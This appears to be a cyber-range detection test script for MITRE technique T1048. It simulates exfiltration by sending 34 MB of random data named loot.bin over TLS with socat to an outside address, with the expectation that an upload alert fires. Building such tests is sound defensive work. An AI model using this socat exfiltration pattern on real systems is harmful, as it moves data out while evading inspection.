# SPDX-License-Identifier: Apache-2.0
# what: 34 MB sent out with socat in TLS
# technique: T1048
# from: ws1
# to: inet
# account: -
# outcome: success
# must: alert upload
. "$RANGE_HERE/item.sh"
head -c 34000000 /dev/urandom >"$HOME/loot.bin"
at inet timeout 50 socat -u OPENSSL-LISTEN:9443,reuseaddr,cert="$RANGE/cert.pem",key="$RANGE/key.pem",verify=0 OPEN:/dev/null &
sleep 0.5
timeout 40 socat -u OPEN:"$HOME/loot.bin" OPENSSL:198.51.100.77:9443,verify=0
ok=$?
rm "$HOME/loot.bin"
exit $ok
